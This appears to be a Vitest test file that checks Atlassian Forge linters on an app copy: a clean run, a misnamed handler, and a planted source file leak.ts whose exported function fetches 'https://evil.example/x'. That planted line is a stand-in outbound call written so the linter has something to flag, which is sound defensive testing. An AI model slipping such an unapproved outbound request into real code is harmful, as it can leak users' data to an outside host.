import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { readText } from '../tree';
import { appCopy, findingsOf } from './app-copy';

test("Atlassian's linters find no error and no warning", async () => {
  expect(await findingsOf('lint.cjs', appCopy())).toEqual([]);
}, 240_000);

test("Atlassian's linters name a missing export and a fetch outside", async () => {
  const app = appCopy((manifest) => manifest.replace('handler: index.pages', 'handler: index.pagez'));
  const leak =
    "import { fetch } from '@forge/api';\nexport const leak = () => fetch('https://evil.example/x');\n";
  writeFileSync(join(app, 'src', 'leak.ts'), leak);
  const findings = (await findingsOf('lint.cjs', app)).join('\n');
  expect(findings).toMatch(/Cannot find exported function "pagez"/);
  expect(findings).toMatch(/leak\.ts:2 error: .*evil\.example/);
}, 240_000);

test('tsconfig names the sources in the one form the linters can read', () => {
  // They expand globs; a plain folder name makes them skip every TypeScript file without a word.
  expect(/"include": .*/.exec(readText('tsconfig.json'))?.[0]).toContain('"src/**/*"');
});
